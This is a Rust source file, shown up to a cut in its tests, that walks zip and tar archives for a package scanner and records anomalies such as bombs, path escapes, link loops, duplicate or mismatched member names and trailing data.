//! Walking every member of an archive for inspection, as the scanner needs it.
//!
//! Unlike [`crate::read_core_metadata`], which refuses a hostile archive at the first problem, a
//! walk goes on and records each problem as an [`Anomaly`], so that a report can list them all.
//! It is still bounded everywhere (members, bytes, ratio, nesting, bytes handed to the visitor),
//! and it says whether it read everything: `complete == false` means some content was not seen,
//! and a scanner must not call such an archive clean.
//!
//! The format is taken from the content, not the name: a zip called `.tar.gz` is read as a zip
//! (and the mismatch is an anomaly).

use std::collections::HashMap;
use std::io::{self, Cursor, Read, Seek, SeekFrom};
use std::path::Path;

use sha2::{Digest, Sha256};

pub use crate::anomaly::{Anomaly, Format};
use crate::tarread::{Extensions, Step};
use crate::tree::{Alias, Kind, Tree, normalize};
use crate::{escapes_root, is_safe_member_path};

#[derive(Clone, Debug)]
pub struct WalkLimits {
    pub max_entries: u64,
    pub max_total_uncompressed: u64,
    /// Ratio of uncompressed to compressed size beyond which an archive is a bomb, once the
    /// uncompressed total passes `ratio_floor`.
    pub max_ratio: u64,
    pub ratio_floor: u64,
    /// Bytes of one member handed to the visitor; the rest is read (and counted) but not shown.
    pub max_member_bytes: u64,
    /// Archives inside archives are walked down to this depth (0 = the file itself only).
    pub max_depth: u8,
}

impl Default for WalkLimits {
    fn default() -> Self {
        Self {
            max_entries: 50_000,
            max_total_uncompressed: 1 << 30,
            max_ratio: 100,
            ratio_floor: 16 << 20,
            max_member_bytes: 4 << 20,
            max_depth: 2,
        }
    }
}

/// One regular file inside the archive, under one of the paths it will have once extracted.
pub struct Member<'a> {
    /// Path inside the archive, normalized as extractors join it (`./a//b` is `a/b`); members of
    /// nested archives are `outer/inner.zip!path`. A file that can also be opened under another
    /// path (through a link, or a second name in a zip's headers) is visited once per path.
    pub path: &'a str,
    pub data: &'a [u8],
    /// The member was larger than `max_member_bytes`; `data` is its beginning.
    pub truncated: bool,
    /// Full uncompressed size.
    pub size: u64,
    pub depth: u8,
}

#[derive(Debug)]
pub struct Walk {
    pub format: Format,
    pub entries: u64,
    pub uncompressed: u64,
    pub anomalies: Vec<Anomaly>,
    /// Every member was read to its end, and the archive means the same thing to every
    /// extractor: no repeated paths, no links leaving or looping, no zip names that disagree.
    pub complete: bool,
    /// Archives inside the archive (by the outermost member's path) that could not be read
    /// completely: corrupt, encrypted, nested too deep. Installers never open them; whether
    /// that matters depends on what refers to them, which the caller judges.
    pub unread_nested: Vec<String>,
    /// Whether anything but such a nested archive went unread (the archive itself, a member,
    /// a limit of the whole walk): then the walk is incomplete whatever the nested ones hold.
    pub failed_outside_nested: bool,
}

impl Walk {
    fn new(format: Format) -> Self {
        Self {
            format,
            entries: 0,
            uncompressed: 0,
            anomalies: Vec::new(),
            complete: true,
            unread_nested: Vec::new(),
            failed_outside_nested: false,
        }
    }

    /// A failure of the archive as a whole, or of one of its own members.
    fn fail(&mut self, a: Anomaly) {
        self.complete = false;
        self.failed_outside_nested = true;
        self.anomalies.push(a);
    }

    /// A failure at `depth`: inside a nested archive (depth 1 and below) it is that archive's.
    fn fail_at(&mut self, a: Anomaly, depth: u8) {
        if depth == 0 {
            return self.fail(a);
        }
        self.fail_nested(a);
    }

    /// A nested archive that cannot be read completely; the outermost member that holds it is
    /// the path before the first `!`.
    fn fail_nested(&mut self, a: Anomaly) {
        self.complete = false;
        let outer = a.path().split('!').next().unwrap_or_default().to_string();
        if outer.is_empty() {
            self.failed_outside_nested = true;
        } else if !self.unread_nested.contains(&outer) {
            self.unread_nested.push(outer);
        }
        self.anomalies.push(a);
    }

    /// Something extractors would disagree on. In the archive itself (`depth` 0) the walk is
    /// then not complete; inside a nested archive, which installers never extract (archive
    /// libraries ship such test fixtures), it is recorded and weighed like its member.
    fn ambiguous(&mut self, a: Anomaly, depth: u8) {
        if depth == 0 {
            self.fail(a);
        } else {
            self.anomalies.push(a);
        }
    }
}

/// Where an archive's bytes come from: opened afresh for each pass over it.
#[derive(Clone, Copy)]
enum Source<'a> {
    File(&'a Path),
    Bytes(&'a [u8]),
}

trait ReadSeek: Read + Seek {}
impl<T: Read + Seek> ReadSeek for T {}

impl<'a> Source<'a> {
    fn open(self) -> io::Result<Box<dyn ReadSeek + 'a>> {
        Ok(match self {
            Source::File(p) => Box::new(io::BufReader::new(std::fs::File::open(p)?)),
            Source::Bytes(b) => Box::new(Cursor::new(b)),
        })
    }
}

/// Walks the archive at `path`, calling `visit` for every regular member (and for members of
/// nested archives). `name` is used for the format-mismatch check and in messages.
pub fn walk_file(path: &Path, name: &str, limits: &WalkLimits, visit: &mut dyn FnMut(&Member)) -> Walk {
    let mut file = match std::fs::File::open(path) {
        Ok(f) => f,
        Err(e) => {
            let mut w = Walk::new(Format::Unknown);
            w.fail(Anomaly::Unreadable { path: String::new(), reason: e.to_string() });
            return w;
        }
    };
    let mut head = [0u8; 512];
    let n = read_up_to(&mut file, &mut head).unwrap_or(0);
    let format = Format::sniff(&head[..n]);
    let compressed = file.metadata().map(|m| m.len()).unwrap_or(0);
    drop(file);
    let mut walk = Walk::new(format);
    check_claim(&mut walk, name, format);
    let mut ctx = Ctx { limits, compressed, walk: &mut walk, visit };
    ctx.walk_source(Source::File(path), format, "", 0);
    finish(&mut walk, compressed, limits);
    walk
}

/// Like [`walk_file`], for an archive already in memory.
pub fn walk_bytes(data: &[u8], name: &str, limits: &WalkLimits, visit: &mut dyn FnMut(&Member)) -> Walk {
    let format = Format::sniff(&data[..data.len().min(512)]);
    let mut walk = Walk::new(format);
    check_claim(&mut walk, name, format);
    let mut ctx = Ctx { limits, compressed: data.len() as u64, walk: &mut walk, visit };
    ctx.walk_source(Source::Bytes(data), format, "", 0);
    finish(&mut walk, data.len() as u64, limits);
    walk
}

fn check_claim(walk: &mut Walk, name: &str, actual: Format) {
    let claimed = Format::from_name(name);
    if claimed != Format::Unknown && actual != Format::Unknown && claimed != actual {
        // An installer opens the file by its name's format: a scanner reading another format
        // reads another archive (a gzip stream can carry a whole wheel as its payload).
        walk.fail(Anomaly::FormatMismatch { claimed, actual });
    }
}

fn finish(walk: &mut Walk, compressed: u64, limits: &WalkLimits) {
    if walk.uncompressed > limits.ratio_floor {
        let ratio = walk.uncompressed / compressed.max(1);
        if ratio > limits.max_ratio && !walk.anomalies.iter().any(|a| matches!(a, Anomaly::Bomb { .. })) {
            walk.anomalies.push(Anomaly::Bomb { path: String::new(), ratio });
        }
    }
    if walk.format == Format::Unknown {
        walk.fail(Anomaly::Unreadable { path: String::new(), reason: "not a zip, tar, tar.gz or tar.bz2 archive".into() });
    }
}

fn read_up_to(r: &mut impl Read, buf: &mut [u8]) -> io::Result<usize> {
    let mut n = 0;
    while n < buf.len() {
        match r.read(&mut buf[n..])? {
            0 => break,
            k => n += k,
        }
    }
    Ok(n)
}

/// Decompresses a tar stream to its end: every gzip or bzip2 member, as Python's `tarfile` and
/// GNU tar read them (a reader that stops after the first member sees another archive).
fn tar_stream<'a>(source: Source<'a>, format: Format) -> io::Result<Box<dyn Read + 'a>> {
    let raw = source.open()?;
    Ok(match format {
        Format::TarGz => Box::new(flate2::read::MultiGzDecoder::new(raw)),
        Format::TarBz2 => Box::new(bzip2::read::MultiBzDecoder::new(raw)),
        _ => raw,
    })
}

/// Reads what follows a tar archive's end marker: only zeros may (tar pads its output to a
/// record, GNU tar to 10 KiB). `Ok(true)` when something else is there. At most `budget`
/// bytes are read.
pub(crate) fn trailing_data(mut rest: impl Read, budget: u64) -> io::Result<(bool, u64)> {
    let mut buf = vec![0u8; 64 << 10];
    let mut total = 0u64;
    loop {
        let n = rest.read(&mut buf)?;
        if n == 0 {
            return Ok((false, total));
        }
        total += n as u64;
        if buf[..n].iter().any(|&b| b != 0) {
            return Ok((true, total));
        }
        if total > budget {
            return Ok((false, total));
        }
    }
}

/// How a tar member's type maps onto what extraction creates, `link` being its link target.
/// Sparse files and every other type are refused with the special files.
pub(crate) fn tar_kind(kind: tar::EntryType, link: &[u8]) -> Result<Kind, ()> {
    use tar::EntryType as T;
    let link = || String::from_utf8_lossy(link).into_owned();
    match kind {
        T::Directory => Ok(Kind::Dir),
        T::Regular | T::Continuous => Ok(Kind::File),
        T::Symlink => Ok(Kind::Symlink(link())),
        T::Link => Ok(Kind::Hardlink(link())),
        _ => Err(()),
    }
}

struct Ctx<'a, 'v> {
    limits: &'a WalkLimits,
    /// Size of the outermost file, for the ratio check while reading.
    compressed: u64,
    walk: &'a mut Walk,
    visit: &'v mut dyn FnMut(&Member),
}

enum Budget {
    Ok,
    Stop,
}

/// A member's name decoded for messages and the tree: valid UTF-8 without control characters,
/// else a lossy rendering and an anomaly.
fn decode_name(walk: &mut Walk, raw: &[u8], prefix: &str, depth: u8) -> String {
    match std::str::from_utf8(raw) {
        Ok(n) if !n.bytes().any(|b| b < 0x20 || b == 0x7f) => n.to_string(),
        _ => {
            // Tools decode such names differently (tarfile keeps the bytes, zipfile refuses an
            // invalid UTF-8 name it was told is UTF-8), so what they extract is not known.
            let shown = String::from_utf8_lossy(raw).into_owned();
            walk.ambiguous(Anomaly::UndecodableName { path: format!("{prefix}{shown}") }, depth);
            shown
        }
    }
}

impl Ctx<'_, '_> {
    fn count_entry(&mut self) -> Budget {
        self.walk.entries += 1;
        if self.walk.entries > self.limits.max_entries {
            self.walk.fail(Anomaly::TooManyEntries { limit: self.limits.max_entries });
            return Budget::Stop;
        }
        Budget::Ok
    }

    fn walk_source(&mut self, source: Source<'_>, format: Format, prefix: &str, depth: u8) {
        match format {
            Format::Zip => self.walk_zip(source, prefix, depth),
            Format::TarGz | Format::TarBz2 | Format::Tar => self.walk_tar(source, format, prefix, depth),
            Format::Unknown => {}
        }
    }

    /// What the ratio and size limits still allow to be decompressed.
    fn remaining(&self) -> u64 {
        let ratio_cap = self.limits.ratio_floor.max(self.compressed.saturating_mul(self.limits.max_ratio));
        self.limits.max_total_uncompressed.min(ratio_cap).saturating_sub(self.walk.uncompressed)
    }

    /// Counts `n` more decompressed bytes against the limits; false once they are passed.
    fn account(&mut self, n: u64, path: &str) -> bool {
        self.walk.uncompressed += n;
        let ratio_cap = self.limits.ratio_floor.max(self.compressed.saturating_mul(self.limits.max_ratio));
        if self.walk.uncompressed > ratio_cap && self.walk.uncompressed <= self.limits.max_total_uncompressed {
            self.walk.fail(Anomaly::Bomb { path: path.to_string(), ratio: self.walk.uncompressed / self.compressed.max(1) });
            return false;
        }
        if self.walk.uncompressed > self.limits.max_total_uncompressed {
            self.walk.fail(Anomaly::TooLarge { limit: self.limits.max_total_uncompressed });
            return false;
        }
        true
    }

    /// Reads one member's content: the first `max_member_bytes` kept, the rest counted.
    fn read_member(&mut self, mut r: impl Read, path: &str, depth: u8) -> Option<(Vec<u8>, u64, bool)> {
        let keep = self.limits.max_member_bytes;
        let mut data = Vec::new();
        if let Err(e) = (&mut r).take(keep).read_to_end(&mut data) {
            self.walk.fail_at(Anomaly::Unreadable { path: path.to_string(), reason: e.to_string() }, depth);
            return None;
        }
        let mut size = data.len() as u64;
        let mut truncated = false;
        if size == keep {
            // Read no further than the size limit or the ratio allows, whichever comes first, so
            // a bomb costs at most that much decompression.
            let budget = self.remaining().saturating_sub(size);
            match io::copy(&mut (&mut r).take(budget + 1), &mut io::sink()) {
                Ok(rest) => {
                    size += rest;
                    truncated = rest > 0;
                }
                Err(e) => {
                    self.walk.fail_at(Anomaly::Unreadable { path: path.to_string(), reason: e.to_string() }, depth);
                    return None;
                }
            }
        }
        if !self.account(size, path) {
            return None;
        }
        Some((data, size, truncated))
    }

    fn deliver(&mut self, path: &str, data: &[u8], size: u64, truncated: bool, depth: u8) {
        (self.visit)(&Member { path, data, truncated, size, depth });
        let nested = Format::from_name(path);
        let sniffed = Format::sniff(&data[..data.len().min(512)]);
        let is_archive = nested != Format::Unknown && sniffed != Format::Unknown;
        if !is_archive {
            return;
        }
        if depth >= self.limits.max_depth || truncated {
            // The member is an archive that is not opened: a nested one, unread.
            self.walk.fail_nested(Anomaly::TooDeep { path: path.to_string() });
            return;
        }
        let inner_prefix = format!("{path}!");
        self.walk_source(Source::Bytes(data), sniffed, &inner_prefix, depth + 1);
    }

    /// Places a member in the extraction model; a refusal is an ambiguity. A regular file that
    /// repeats an earlier one is noted in `repeats` (first copy, this copy, path) for its
    /// contents to be compared.
    fn place(&mut self, model: &mut Model, path: &str, kind: Kind, index: usize, full: &str, depth: u8) -> bool {
        match model.tree.insert(path, kind, index, full) {
            Ok(None) => true,
            Ok(Some(first)) => {
                model.repeats.push(Repeat { first, again: index, path: full.to_string() });
                true
            }
            Err(a) => {
                self.walk.ambiguous(a, depth);
                false
            }
        }
    }

    fn walk_zip(&mut self, source: Source<'_>, prefix: &str, depth: u8) {
        let container = prefix.trim_end_matches('!').to_string();
        let opened = source.open().map_err(|e| e.to_string()).and_then(|r| zip::ZipArchive::new(r).map_err(|e| e.to_string()));
        let mut zip = match opened {
            Ok(z) => z,
            Err(e) => {
                self.walk.fail_at(Anomaly::Unreadable { path: container, reason: format!("not a readable zip: {e}") }, depth);
                return;
            }
        };
        // A second handle reads the raw headers: the zip reader applies Unicode path fields
        // that Python's zipfile (what pip installs with) ignores.
        let mut raw = match source.open() {
            Ok(r) => r,
            Err(e) => {
                self.walk.fail_at(Anomaly::Unreadable { path: container, reason: e.to_string() }, depth);
                return;
            }
        };
        if zip.offset() != 0 {
            // Readers that stream from the first byte see something else than readers that
            // start from the end (pip's zipfile accepts the offset; others do not).
            self.walk.ambiguous(Anomaly::Unreadable { path: container.clone(), reason: "data before the zip archive".into() }, depth);
        }
        let mut starts = Vec::with_capacity(zip.len());
        if zip.has_duplicate_names() {
            // The reader keeps one copy per name; the others are never seen.
            self.walk.ambiguous(Anomaly::Duplicate { path: format!("{prefix}(a name in the central directory)") }, depth);
        }
        let mut model = Model::default();
        for i in 0..zip.len() {
            if let Budget::Stop = self.count_entry() {
                break;
            }
            let (reader_name, header_start, central_start) = match zip.by_index_raw(i) {
                Ok(e) => (e.name_raw().to_vec(), e.header_start(), e.central_header_start()),
                Err(e) => {
                    self.walk.fail_at(Anomaly::Unreadable { path: format!("{prefix}#{i}"), reason: e.to_string() }, depth);
                    continue;
                }
            };
            starts.push(central_start);
            let Some((central, utf8)) = central_header_name(&mut raw, central_start) else {
                self.walk.fail_at(
                    Anomaly::Unreadable { path: format!("{prefix}#{i}"), reason: "its central header cannot be read".into() },
                    depth,
                );
                continue;
            };
            // The name pip sees is the central directory's, decoded as Python's zipfile does.
            let name = if utf8 || central.is_ascii() { decode_name(self.walk, &central, prefix, depth) } else { cp437(&central) };
            let full = format!("{prefix}{name}");
            // Every other name the member goes by is judged too, and makes the archive ambiguous.
            let mut others: Vec<String> = Vec::new();
            match local_header_name(&mut raw, header_start) {
                Some(local) if local == central => {}
                Some(local) => others.push(String::from_utf8_lossy(&local).into_owned()),
                None => {
                    self.walk.fail_at(Anomaly::Unreadable { path: full.clone(), reason: "its local header cannot be read".into() }, depth);
                    continue;
                }
            }
            if reader_name != central {
                others.push(String::from_utf8_lossy(&reader_name).into_owned());
            }
            others.sort();
            others.dedup();
            others.retain(|o| *o != name);
            for other in &others {
                self.walk.ambiguous(Anomaly::HeaderMismatch { path: full.clone(), local: other.clone() }, depth);
            }
            let is_dir = name.ends_with('/');
            let normal = normalize(&name);
            match &normal {
                Some(n) if is_safe_member_path(n) => {
                    // The zip reader shows one copy of a repeated name, so copies cannot be compared.
                    let before = model.repeats.len();
                    self.place(&mut model, n, if is_dir { Kind::Dir } else { Kind::File }, i, &full, depth);
                    if model.repeats.len() > before {
                        self.walk.ambiguous(Anomaly::Duplicate { path: full.clone() }, depth);
                    }
                }
                _ => self.walk.ambiguous(Anomaly::UnsafePath { path: full.clone() }, depth),
            }
            let mut entry = match zip.by_index(i) {
                Ok(e) => e,
                Err(zip::result::ZipError::UnsupportedArchive(msg)) if msg.contains("ncrypt") || msg.contains("assword") => {
                    self.walk.fail_at(Anomaly::Encrypted { path: full }, depth);
                    continue;
                }
                Err(e) => {
                    self.walk.fail_at(Anomaly::Unreadable { path: full, reason: e.to_string() }, depth);
                    continue;
                }
            };
            if entry.encrypted() {
                self.walk.fail_at(Anomaly::Encrypted { path: full }, depth);
                continue;
            }
            if is_dir {
                continue;
            }
            let declared = entry.size();
            let compressed = entry.compressed_size().max(1);
            if declared > self.limits.ratio_floor && declared / compressed > self.limits.max_ratio {
                self.walk.fail_at(Anomaly::Bomb { path: full, ratio: declared / compressed }, depth);
                continue;
            }
            let symlink = entry.is_symlink();
            let Some((data, size, truncated)) = self.read_member(&mut entry, &full, depth) else { continue };
            drop(entry);
            if symlink {
                // Python's zipfile writes a symlink entry as a file holding the target; unzip
                // makes the link. The file is judged, and the link too.
                let target = String::from_utf8_lossy(&data[..data.len().min(4096)]).into_owned();
                let base = name.rsplit_once('/').map(|(d, _)| d).unwrap_or("");
                if target.starts_with('/') || escapes_root(&format!("{base}/{target}")) {
                    self.walk.ambiguous(Anomaly::LinkOutside { path: full.clone(), target }, depth);
                } else {
                    self.walk.anomalies.push(Anomaly::Link { path: full.clone(), target });
                }
            }
            let shown = match &normal {
                Some(n) => format!("{prefix}{n}"),
                None => full,
            };
            self.deliver(&shown, &data, size, truncated, depth);
            for other in others {
                let other = normalize(&other).unwrap_or(other);
                self.deliver(&format!("{prefix}{other}"), &data, size, truncated, depth);
            }
        }
        if zip.offset() == 0
            && starts.len() == zip.len()
            && let Err(reason) = central_directory_agrees(&mut raw, zip.central_directory_start(), &mut starts)
        {
            self.walk.ambiguous(Anomaly::Unreadable { path: container, reason }, depth);
        }
    }

    fn walk_tar(&mut self, source: Source<'_>, format: Format, prefix: &str, depth: u8) {
        let container = prefix.trim_end_matches('!').to_string();
        let stream = match tar_stream(source, format) {
            Ok(s) => s,
            Err(e) => {
                self.walk.fail_at(Anomaly::Unreadable { path: container, reason: e.to_string() }, depth);
                return;
            }
        };
        let mut archive = tar::Archive::new(stream);
        let mut model = Model::default();
        let ended = self.tar_members(&mut archive, &mut model, prefix, depth);
        if !ended {
            return;
        }
        match trailing_data(archive.into_inner(), self.remaining()) {
            Ok((found, n)) => {
                if found {
                    self.walk.ambiguous(Anomaly::TrailingData { path: container.clone() }, depth);
                }
                if !self.account(n, &container) {
                    return;
                }
            }
            Err(e) => {
                self.walk.fail_at(
                    Anomaly::Unreadable { path: container.clone(), reason: format!("corrupt data after the tar archive: {e}") },
                    depth,
                );
                return;
            }
        }
        let max = self.limits.max_entries.saturating_sub(self.walk.entries) as usize;
        let Model { tree, repeats } = model;
        let aliases = match tree.aliases(max) {
            Ok(a) => a,
            Err(a) => {
                self.walk.ambiguous(prefixed(a, prefix), depth);
                Vec::new()
            }
        };
        if !aliases.is_empty() || !repeats.is_empty() {
            self.tar_second_pass(source, format, aliases, repeats, prefix, depth);
        }
    }

    /// The first pass: every member placed in the model and every regular file visited under
    /// its own path. False when the stream could not be read to its end.
    fn tar_members<R: Read>(&mut self, archive: &mut tar::Archive<R>, model: &mut Model, prefix: &str, depth: u8) -> bool {
        let container = prefix.trim_end_matches('!').to_string();
        let entries = match archive.entries() {
            Ok(e) => e,
            Err(e) => {
                self.walk.fail_at(Anomaly::Unreadable { path: container, reason: e.to_string() }, depth);
                return false;
            }
        };
        let mut ext = Extensions::default();
        for (index, entry) in entries.raw(true).enumerate() {
            let mut entry = match entry {
                Ok(e) => e,
                Err(e) => {
                    self.walk
                        .fail_at(Anomaly::Unreadable { path: container, reason: format!("corrupt or truncated tar stream: {e}") }, depth);
                    return false;
                }
            };
            // Data the tar reader skips is still decompressed: it counts against the limits.
            let declared = entry.header().entry_size().unwrap_or(u64::MAX);
            let regular = matches!(entry.header().entry_type(), tar::EntryType::Regular | tar::EntryType::Continuous);
            if !regular && !self.account(declared, &container) {
                return false;
            }
            let names = match ext.step(&mut entry) {
                Ok(Step::Extension) => continue,
                Ok(Step::Member(names)) => names,
                Err(reason) => {
                    let shown = String::from_utf8_lossy(&entry.path_bytes()).into_owned();
                    self.walk.ambiguous(Anomaly::TarHeader { path: format!("{prefix}{shown}"), reason }, depth);
                    if regular && !self.account(declared, &container) {
                        return false;
                    }
                    continue;
                }
            };
            let kind = tar_kind(entry.header().entry_type(), &names.link);
            if let Budget::Stop = self.count_entry() {
                return false;
            }
            let name = decode_name(self.walk, &names.path, prefix, depth);
            // An old-style (type NUL) file whose name ends in '/' is a folder to every reader; any
            // other file named like a folder cannot be extracted.
            let old_dir = names.old_dir;
            let kind = if old_dir { Ok(Kind::Dir) } else { kind };
            let bad_file = kind == Ok(Kind::File) && name.ends_with('/');
            let Some(normal) = normalize(&name).filter(|n| is_safe_member_path(n) && !bad_file) else {
                if name.trim_start_matches("./").trim_end_matches('/').is_empty() {
                    continue;
                }
                let full = format!("{prefix}{name}");
                self.walk.ambiguous(Anomaly::UnsafePath { path: full.clone() }, depth);
                if let Ok(Kind::File) = kind
                    && let Some((data, size, truncated)) = self.read_member(&mut entry, &full, depth)
                {
                    self.deliver(&full, &data, size, truncated, depth);
                }
                continue;
            };
            let full = format!("{prefix}{normal}");
            let kind = match kind {
                Ok(k) => k,
                Err(()) => {
                    self.walk.ambiguous(Anomaly::SpecialFile { path: full }, depth);
                    continue;
                }
            };
            let link = match &kind {
                Kind::Symlink(target) | Kind::Hardlink(target) => Some(target.clone()),
                _ => None,
            };
            let is_file = kind == Kind::File;
            if self.place(model, &normal, kind, index, &full, depth)
                && let Some(target) = link
            {
                self.walk.anomalies.push(Anomaly::Link { path: full.clone(), target });
            }
            if is_file {
                let Some((data, size, truncated)) = self.read_member(&mut entry, &full, depth) else { return false };
                self.deliver(&full, &data, size, truncated, depth);
            }
        }
        if ext.dangling() {
            let reason = "extension headers with no member after them".to_string();
            self.walk.ambiguous(Anomaly::TarHeader { path: container, reason }, depth);
        }
        true
    }

    /// The second pass, only for archives with links or repeated files: the content of linked
    /// files visited again under each path that opens it, and the copies of a repeated file
    /// compared (equal copies are one file; different ones are a duplicate).
    fn tar_second_pass(&mut self, source: Source<'_>, format: Format, aliases: Vec<Alias>, repeats: Vec<Repeat>, prefix: &str, depth: u8) {
        let container = prefix.trim_end_matches('!').to_string();
        let mut wanted: HashMap<usize, Vec<String>> = HashMap::new();
        for a in aliases {
            wanted.entry(a.member).or_default().push(a.path);
        }
        let mut digests: HashMap<usize, Option<[u8; 32]>> = repeats.iter().flat_map(|r| [(r.first, None), (r.again, None)]).collect();
        let last = wanted.keys().chain(digests.keys()).copied().max().unwrap_or(0);
        let stream = match tar_stream(source, format) {
            Ok(s) => s,
            Err(e) => {
                self.walk.fail_at(Anomaly::Unreadable { path: container, reason: e.to_string() }, depth);
                return;
            }
        };
        let mut archive = tar::Archive::new(stream);
        let Ok(entries) = archive.entries() else { return };
        for (index, entry) in entries.raw(true).enumerate() {
            if index > last {
                break;
            }
            let paths = wanted.remove(&index);
            let hash = digests.contains_key(&index);
            if paths.is_none() && !hash {
                continue;
            }
            let Ok(mut entry) = entry else {
                self.walk
                    .fail_at(Anomaly::Unreadable { path: container, reason: "the tar stream changed between two reads".into() }, depth);
                return;
            };
            if hash {
                // Read in full: the size was accepted by the first pass.
                let mut hasher = Sha256::new();
                let mut buf = vec![0u8; 64 << 10];
                loop {
                    match entry.read(&mut buf) {
                        Ok(0) => break,
                        Ok(n) => hasher.update(&buf[..n]),
                        Err(e) => {
                            self.walk.fail_at(Anomaly::Unreadable { path: container, reason: e.to_string() }, depth);
                            return;
                        }
                    }
                }
                digests.insert(index, Some(hasher.finalize().into()));
                if paths.is_some() {
                    // An alias of a repeated file: its content is the last copy's, read again below.
                    self.walk.ambiguous(Anomaly::Duplicate { path: format!("{prefix}(a linked file stated twice)") }, depth);
                    continue;
                }
            }
            let Some(paths) = paths else { continue };
            let first = format!("{prefix}{}", paths[0]);
            let Some((data, size, truncated)) = self.read_member(&mut entry, &first, depth) else { return };
            for path in paths {
                if let Budget::Stop = self.count_entry() {
                    return;
                }
                self.deliver(&format!("{prefix}{path}"), &data, size, truncated, depth);
            }
        }
        for r in repeats {
            let same = matches!((digests.get(&r.first), digests.get(&r.again)), (Some(Some(a)), Some(Some(b))) if a == b);
            if !same {
                self.walk.ambiguous(Anomaly::Duplicate { path: r.path }, depth);
            }
        }
    }
}

/// The extraction model of one archive, and the files stated twice in it.
#[derive(Default)]
struct Model {
    tree: Tree,
    repeats: Vec<Repeat>,
}

/// A regular file stated twice: the walk indexes of both copies.
struct Repeat {
    first: usize,
    again: usize,
    path: String,
}

/// An anomaly from the model of a nested archive names its member with the archive's prefix.
fn prefixed(a: Anomaly, prefix: &str) -> Anomaly {
    if prefix.is_empty() {
        return a;
    }
    let p = |s: String| if s.starts_with(prefix) { s } else { format!("{prefix}{s}") };
    match a {
        Anomaly::LinkOutside { path, target } => Anomaly::LinkOutside { path: p(path), target },
        Anomaly::LinkLoop { path, target } => Anomaly::LinkLoop { path: p(path), target },
        other => other,
    }
}

/// The filename stored in a zip member's local header.
pub(crate) fn local_header_name<R: Read + Seek + ?Sized>(reader: &mut R, offset: u64) -> Option<Vec<u8>> {
    reader.seek(SeekFrom::Start(offset)).ok()?;
    let mut fixed = [0u8; 30];
    reader.read_exact(&mut fixed).ok()?;
    if &fixed[..4] != b"PK\x03\x04" {
        return Some(b"<no local header>".to_vec());
    }
    let name_len = u16::from_le_bytes([fixed[26], fixed[27]]) as usize;
    let mut name = vec![0u8; name_len];
    reader.read_exact(&mut name).ok()?;
    Some(name)
}

/// The filename stored in a zip member's central directory header, as read by Python's
/// zipfile, and whether its UTF-8 flag is set.
pub(crate) fn central_header_name<R: Read + Seek + ?Sized>(reader: &mut R, offset: u64) -> Option<(Vec<u8>, bool)> {
    reader.seek(SeekFrom::Start(offset)).ok()?;
    let mut fixed = [0u8; 46];
    reader.read_exact(&mut fixed).ok()?;
    if &fixed[..4] != b"PK\x01\x02" {
        return None;
    }
    let flags = u16::from_le_bytes([fixed[8], fixed[9]]);
    let name_len = u16::from_le_bytes([fixed[28], fixed[29]]) as usize;
    let mut name = vec![0u8; name_len];
    reader.read_exact(&mut name).ok()?;
    Some((name, flags & 0x800 != 0))
}

/// Checks that the central directory holds exactly the members the zip reader listed (their
/// central headers at `starts`), back to back from `cd_start`, and nothing after them. Python's
/// zipfile reads headers for the directory's whole size; the zip reader reads as many as the end
/// record counts, so a count one short hides the last member from it.
pub(crate) fn central_directory_agrees<R: Read + Seek + ?Sized>(reader: &mut R, cd_start: u64, starts: &mut [u64]) -> Result<(), String> {
    starts.sort_unstable();
    let mut next = cd_start;
    for &start in starts.iter() {
        if start != next {
            return Err(format!("central directory headers are not back to back (one at {start}, expected {next})"));
        }
        reader.seek(SeekFrom::Start(start)).map_err(|e| e.to_string())?;
        let mut fixed = [0u8; 46];
        reader.read_exact(&mut fixed).map_err(|e| e.to_string())?;
        let len = |at: usize| u64::from(u16::from_le_bytes([fixed[at], fixed[at + 1]]));
        next = start + 46 + len(28) + len(30) + len(32);
    }
    reader.seek(SeekFrom::Start(next)).map_err(|e| e.to_string())?;
    let mut sig = [0u8; 4];
    if reader.read_exact(&mut sig).is_ok() && &sig == b"PK\x01\x02" {
        return Err("the central directory holds more members than its end record counts; zip readers disagree on the rest".into());
    }
    Ok(())
}

/// Code page 437, the zip format's default name encoding, from 0x80 up.
const CP437_HIGH: &str =
    "ÇüéâäàåçêëèïîìÄÅÉæÆôöòûùÿÖÜ¢£¥₧ƒáíóúñÑªº¿⌐¬½¼¡«»░▒▓│┤╡╢╖╕╣║╗╝╜╛┐└┴┬├─┼╞╟╚╔╩╦╠═╬╧╨╤╥╙╘╒╓╫╪┘┌█▄▌▐▀αßΓπΣσµτΦΘΩδ∞φε∩≡±≥≤⌠⌡÷≈°∙·√ⁿ²■\u{a0}";

fn cp437(raw: &[u8]) -> String {
    let high: Vec<char> = CP437_HIGH.chars().collect();
    raw.iter().map(|&b| if b < 0x80 { b as char } else { high.get(usize::from(b - 0x80)).copied().unwrap_or('?') }).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;

    fn zip_bytes(entries: &[(&str, &[u8])]) -> Vec<u8> {
        let mut buf = Cursor::new(Vec::new());
        {
            let mut z = zip::ZipWriter::new(&mut buf);
            let o = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
            for (n, d) in entries {
                z.start_file(*n, o).unwrap();
                z.write_all(d).unwrap();
            }
            z.finish().unwrap();
        }
        buf.into_inner()
    }

    fn tgz_bytes(build: impl FnOnce(&mut tar::Builder<flate2::write::GzEncoder<Vec<u8>>>)) -> Vec<u8> {
        let mut t = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast()));
        build(&mut t);
        t.into_inner().unwrap().finish().unwrap()
    }

    fn file(t: &mut tar::Builder<flate2::write::GzEncoder<Vec<u8>>>, name: &str, data: &[u8]) {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_entry_type(tar::EntryType::Regular);
        t.append_data(&mut h, name, data).unwrap();
    }

    fn run(data: &[u8], name: &str) -> (Walk, Vec<String>) {
        let mut seen = Vec::new();
        let w = walk_bytes(data, name, &WalkLimits::default(), &mut |m| seen.push(m.path.to_string()));
        (w, seen)
    }

    fn ids(w: &Walk) -> Vec<&'static str> {
        w.anomalies.iter().map(Anomaly::id).collect()
    }

    #[test]
    fn clean_zip_and_tar() {
        let (w, seen) = run(&zip_bytes(&[("a/b.py", b"x"), ("a/c.py", b"y")]), "a-1.0-py3-none-any.whl");
        assert!(w.complete && w.anomalies.is_empty(), "{:?}", w.anomalies);
        assert_eq!(seen, vec!["a/b.py", "a/c.py"]);
        let (w, seen) = run(&tgz_bytes(|t| file(t, "a-1.0/setup.py", b"print(1)")), "a-1.0.tar.gz");
